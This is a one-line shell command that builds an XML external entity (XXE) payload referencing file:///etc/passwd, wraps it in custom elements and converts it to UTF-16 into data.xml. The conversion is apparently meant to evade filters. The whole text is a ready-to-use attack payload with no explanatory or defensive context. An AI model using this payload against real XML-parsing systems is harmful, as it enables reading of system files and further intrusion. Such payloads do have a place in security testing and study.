printf "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><so-lieu><thon>&x;</thon></so-lieu>" | iconv -f UTF-8 -t UTF-16 > data.xml
